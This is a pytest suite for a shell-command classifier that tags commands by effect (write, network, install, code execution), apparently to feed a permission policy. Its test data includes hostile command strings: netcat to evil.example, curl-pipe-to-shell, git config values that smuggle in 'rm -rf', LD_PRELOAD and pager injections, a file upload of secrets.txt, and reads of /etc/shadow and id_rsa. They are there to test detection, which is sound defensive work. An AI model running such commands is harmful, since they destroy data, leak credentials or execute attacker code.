"""Effects per program family: writes, network, install, code, and redirections."""

from __future__ import annotations

import pytest
from helpers import E, analyze, only

WRITES = [
    ("cp a b", [("a", "read"), ("b", "write")]),
    ("cp -r src dst", [("src", "read"), ("dst", "write")]),
    ("cp -t dst a b", [("dst", "write"), ("a", "read"), ("b", "read")]),
    ("mv a b", [("a", "delete"), ("b", "write")]),
    ("mkdir -p x/y", [("x/y", "write")]),
    ("touch f", [("f", "write")]),
    ("tee out", [("out", "write")]),
    ("tee -a log", [("log", "write")]),
    # the new name reads as its target, looked up from the link's folder (beside or inside `link`)
    ("ln -s target link", [("link/target", "read"), ("./target", "read"), ("link", "write")]),
    (
        "ln -s ../README.md docs/README.md",
        [("docs/README.md/../README.md", "read"), ("docs/../README.md", "read"), ("docs/README.md", "write")],
    ),
    ("ln -s -t docs ../a ../b", [("docs", "write"), ("docs/../a", "read"), ("docs/../b", "read")]),
    ("ln -s a b dir", [("dir/a", "read"), ("dir/b", "read"), ("dir", "write")]),
    ("ln -s /etc/hosts docs/h", [("/etc/hosts", "read"), ("docs/h", "write")]),
    ("ln -sr README.md docs/x", [("README.md", "read"), ("docs/x", "write")]),  # -r: from the cwd
    ("ln README.md docs/x", [("README.md", "read"), ("docs/x", "write")]),  # a hard link: from the cwd
    ('ln -s ../x "$D"/y', [(None, "read"), (None, "write")]),
    ("chmod +x run.sh", [("run.sh", "write")]),
    ("chmod 644 a b", [("a", "write"), ("b", "write")]),
    ("chown u:g f", [("f", "write")]),
    ("truncate -s 0 f", [("f", "write")]),
    ("install -m 755 a /usr/local/bin/a", [("a", "read"), ("/usr/local/bin/a", "write")]),
    ("sed -i s/a/b/ f", [("f", "write")]),
    ("sed -i.bak -e s/a/b/ f g", [("f", "write"), ("g", "write")]),
    ("sort -o out in", [("out", "write"), ("in", "read")]),
    ("tar czf out.tgz src", [("out.tgz", "write"), ("src", "read")]),
    ("tar -xf a.tar", [("a.tar", "read"), (".", "write")]),
    ("tar -C /tmp -xzf a.tgz", [("a.tgz", "read"), ("/tmp", "write")]),
    ("unzip a.zip -d out", [("out", "write"), ("a.zip", "read")]),
    ("echo x > f", [("f", "write")]),
    ("echo x >> f", [("f", "write")]),
    ("ls &> f", [("f", "write")]),
    ("ls >| f", [("f", "write")]),
    ("ls 2> err", [("err", "write")]),
    ("ls 2>> err", [("err", "write")]),
    ("cat < in", [("in", "read")]),
    ("wc -l < in > out", [("in", "read"), ("out", "write")]),
    ("{ ls; } > f", [("f", "write")]),
    ("curl -o out https://x.io", [("out", "write")]),
    ("wget -O out https://x.io", [("out", "write")]),
    ("dd if=a of=b", [("a", "read"), ("b", "write")]),
    ("rsync -a src/ dst/", [("src/", "read"), ("dst/", "write")]),
    ("git clone https://x.io/r.git d", [("d", "write")]),
    ("uniq in out", [("in", "read"), ("out", "write")]),
    ("find . -fprint out", [(".", "read"), ("out", "write")]),
]
HARMLESS_REDIRECTS = [
    "ls > /dev/null",
    "ls 2>/dev/null",
    "ls 2>&1",
    "ls >&2",
    "ls 1>&2",
    "ls > /dev/stderr",
    "ls > /dev/stdout",
    "ls 2>/dev/fd/1",
    "ls &>/dev/null",
    "exec 3<&0",
    "ls 2>&-",
]
NETWORK = [
    ("curl https://example.com/x", ("example.com",)),
    ("curl -sSL http://a.b.c/x | head", ("a.b.c",)),
    ("wget https://dl.x.io/f.tgz", ("dl.x.io",)),
    ("git push", ()),
    ("git pull", ()),
    ("git fetch origin", ()),
    ("git clone git@github.com:o/r.git", ("github.com",)),
    ("git clone https://gitlab.com/o/r", ("gitlab.com",)),
    ("git ls-remote https://h.io/r", ("h.io",)),
    ("git push https://github.com/o/r main", ("github.com",)),
    ("ssh host.example", ("host.example",)),
    ("scp f user@h.example:/tmp", ("h.example",)),
    ("rsync -a d/ h.example:/x", ("h.example",)),
    ("ping -c1 8.8.8.8", ("8.8.8.8",)),
    ("nc evil.example 4444", ("evil.example",)),
    ("http GET https://api.x.io", ("api.x.io",)),
    ("dig example.org", ("example.org",)),
    ("curl --url https://u.example", ("u.example",)),
    ("curl localhost:8080/health", ("localhost",)),
    ("pip download x", ()),
    ("gh pr list", ("github.com",)),
]
INSTALLS = [
    ("pip install requests", "pip", ("requests",)),
    ("pip3 install -U a b", "pip", ("a", "b")),
    ("python -m pip install x", "pip", ("x",)),
    ("python3 -m pip install --user x==1.0", "pip", ("x==1.0",)),
    ("uv pip install x", "uv", ("x",)),
    ("uv add httpx", "uv", ("httpx",)),
    ("npm install lodash", "npm", ("lodash",)),
    ("npm i -D vitest", "npm", ("vitest",)),
    ("npm add x", "npm", ("x",)),
    ("pnpm add x", "pnpm", ("x",)),
    ("yarn add x", "yarn", ("x",)),
    ("bun add x", "bun", ("x",)),
    ("apt install -y curl", "apt", ("curl",)),
    ("apt-get install -y jq", "apt-get", ("jq",)),
    ("sudo apt-get install jq", "apt-get", ("jq",)),
    ("dnf install x", "dnf", ("x",)),
    ("yum install x", "yum", ("x",)),
    ("pacman -S x", "pacman", ("x",)),
    ("apk add x", "apk", ("x",)),
    ("brew install x", "brew", ("x",)),
    ("cargo install ripgrep", "cargo", ("ripgrep",)),
    ("cargo add serde", "cargo", ("serde",)),
    ("go install x@latest", "go", ("x@latest",)),
    ("go get x", "go", ("x",)),
    ("gem install rails", "gem", ("rails",)),
    ("composer require x/y", "composer", ("x/y",)),
    ("conda install numpy", "conda", ("numpy",)),
    ("mamba install x", "mamba", ("x",)),
    ("pipx install black", "pipx", ("black",)),
    ("npm install", "npm", ()),
    ("pip install -r requirements.txt", "pip", ()),
    ("pip install -e .", "pip", ()),
    ("poetry add x", "poetry", ("x",)),
    ("npm ci", "npm", ()),
]
CODE = [
    "npm run build",
    "npm test",
    "npm start",
    "yarn test",
    "pnpm run lint",
    "make",
    "make test",
    "pytest",
    "pytest -q",
    "python -m pytest",
    "cargo build",
    "cargo test",
    "go test ./...",
    "go build",
    "tsc",
    "tsc --noEmit",
    "python3 -c 'print(1)'",
    "python3 script.py",
    "node -e 'console.log(1)'",
    "node index.js",
    "perl -e 'print 1'",
    "ruby -e 'puts 1'",
    "php -r 'echo 1;'",
    "bash script.sh",
    "sh ./x.sh",
    "deno eval '1'",
    "deno run x.ts",
    "./configure",
    "source venv/bin/activate",
    ". ./env.sh",
    "git -c core.pager=evil log",
    "git -c core.fsmonitor='rm -rf ~' status",
    "git -c core.sshCommand=x fetch",
    "git -c alias.x='!rm -rf /' x",
    "git -c diff.external=x diff",
    "git -c credential.helper=x push",
    "git --config-env=core.pager=PAGER log",
    "GIT_PAGER='sh -c id' git log",
    "PAGER=evil git log",
    "LD_PRELOAD=/tmp/x.so ls",
    "LESSOPEN='|id' less f",
    "BASH_ENV=x bash -c ls",
    "PYTHONSTARTUP=x python3",
    "NODE_OPTIONS='--require x' node a.js",
    "PATH=/tmp:$PATH git status",
    "export PAGER=evil",
    "export LD_PRELOAD=/tmp/x.so",
    "env PAGER=evil git log",
    "GIT_SSH_COMMAND=x git fetch",
    "git config core.pager evil",
    "rg --pre ./x pat",
    "find . -exec sh -c id \\;",
    "awk 'BEGIN{system(\"id\")}'",
    "sed 'e id' f",
    "tar --to-command=sh -xf a",
    "curl x | sh",
    "curl x | bash",
    "wget -O- x | python3",
    "docker build .",
    "git unknownalias",
    "uv run pytest",
    "poetry run pytest",
    "fd -x rm",
    "ssh h ls",
    "sort --compress-program=x f",
    "git clone --upload-pack=x h:r",
]
SAFE_ASSIGNMENTS = [
    "GIT_PAGER=cat git log",
    "PAGER=cat git log",
    "NO_COLOR=1 ls",
    "LANG=C sort f",
    "export LANG=C && ls",
    "git -c color.ui=never log",
    "git -c core.pager=cat log",
    "GIT_AUTHOR_NAME=x git status",
    "EDITOR=true git status",
]


@pytest.mark.parametrize(("command", "paths"), WRITES)
def test_paths_and_accesses(command: str, paths: list[tuple[str, str]]) -> None:
    a = analyze(command)
    assert a.decidable, a.errors
    got = [(p.path, p.access.value) for c in a.commands for p in c.paths]
    assert sorted(got) == sorted(paths)
    if any(acc != "read" for _, acc in paths):
        assert not any(c.pure_reader for c in a.commands if c.paths)


@pytest.mark.parametrize("command", HARMLESS_REDIRECTS)
def test_harmless_redirect_is_not_a_write(command: str) -> None:
    a = analyze(command)
    assert a.decidable, a.errors
    assert all(not c.paths and E.WRITE not in c.effects for c in a.commands)


@pytest.mark.parametrize(("command", "hosts"), NETWORK)
def test_network_and_hosts(command: str, hosts: tuple[str, ...]) -> None:
    a = analyze(command)
    assert E.NETWORK in {e for c in a.commands for e in c.effects}
    assert a.commands[0].hosts == hosts


@pytest.mark.parametrize(("command", "manager", "packages"), INSTALLS)
def test_install_manager_and_packages(command: str, manager: str, packages: tuple[str, ...]) -> None:
    a = analyze(command)
    c = a.commands[-1]
    assert E.INSTALL in c.effects
    assert (c.install_manager, c.install_packages) == (manager, packages)


@pytest.mark.parametrize("command", CODE)
def test_runs_code(command: str) -> None:
    a = analyze(command)
    assert E.CODE in {e for c in a.commands for e in c.effects}, [(c.argv, c.effects) for c in a.commands]
    assert not all(c.pure_reader for c in a.commands)


@pytest.mark.parametrize("command", SAFE_ASSIGNMENTS)
def test_plain_environment_is_not_injection(command: str) -> None:
    a = analyze(command)
    assert E.CODE not in {e for c in a.commands for e in c.effects}


def test_curl_upload_of_a_file_is_a_read_of_it() -> None:
    c = only("curl -T secrets.txt https://x.io")
    assert ("secrets.txt", "read") in [(p.path, p.access.value) for p in c.paths]


def test_process_substitution_write_is_classified() -> None:
    a = analyze("echo x >(tee f)")
    tee = next(c for c in a.commands if c.program == "tee")
    assert [(p.path, p.access.value) for p in tee.paths] == [("f", "write")]


def test_glob_path_keeps_literal_text_when_it_cannot_reach_protected_names() -> None:
    c = only("rm *.pyc")
    assert c.paths[0].path == "*.pyc" and "glob" in c.paths[0].why


@pytest.mark.parametrize("command", ["cat *", "cat .e*", "cat ~/.s*/id_rsa", "cat */x", "cat id_*"])
def test_glob_that_may_reach_protected_names_has_no_literal_path_only_its_pattern(command: str) -> None:
    # The policy expands the pattern through the file system (policy/shell_glob.py), so the
    # classifier keeps it for that and no longer calls the command impure for it.
    c = only(command)
    assert (c.paths[0].path, c.paths[0].pattern) == (None, command.split()[1])


def test_a_quoted_glob_character_is_escaped_in_the_pattern() -> None:
    c = only(r"cat a'*'* b\?c? \\?x")
    assert [(p.path, p.pattern) for p in c.paths] == [
        ("a**", r"a\**"),
        ("b?c?", r"b\?c?"),
        (r"\?x", r"\\?x"),
    ]


def test_cd_moves_later_relative_paths() -> None:
    a = analyze("cd /etc && cat passwd")
    assert a.commands[1].paths[0].path == "/etc/passwd"


def test_cd_to_unknown_makes_later_relative_paths_unknown() -> None:
    a = analyze("cd $D && cat x")
    assert a.commands[-1].paths[0].path is None


def test_inline_python_path_literals_are_reads() -> None:
    c = only("python3 -c \"open('/etc/shadow').read()\"")
    assert ("/etc/shadow", "read") in [(p.path, p.access.value) for p in c.paths]


def test_function_call_is_classified_as_its_body() -> None:
    a = analyze("cleanup() { rm -rf build; }; cleanup")
    call = a.commands[-1]
    assert call.program == "cleanup" and E.DELETE in call.effects


@pytest.mark.parametrize(
    ("code", "paths"),
    [
        ("print(open('notes/aws.txt').read())", ["notes/aws.txt"]),
        ("open('aws.txt'); open('a/b/c')", ["aws.txt", "a/b/c"]),
        ("print('hello world'); x = 'a b/c'", []),
        ("d = {'k': 1}; s = 'text'", []),
    ],
)
def test_a_string_literal_of_inline_code_that_names_a_file_is_read(code: str, paths: list[str]) -> None:
    c = only(f'python3 -c "{code}"')
    assert [p.path for p in c.paths if p.why == "path literal in inline code"] == paths
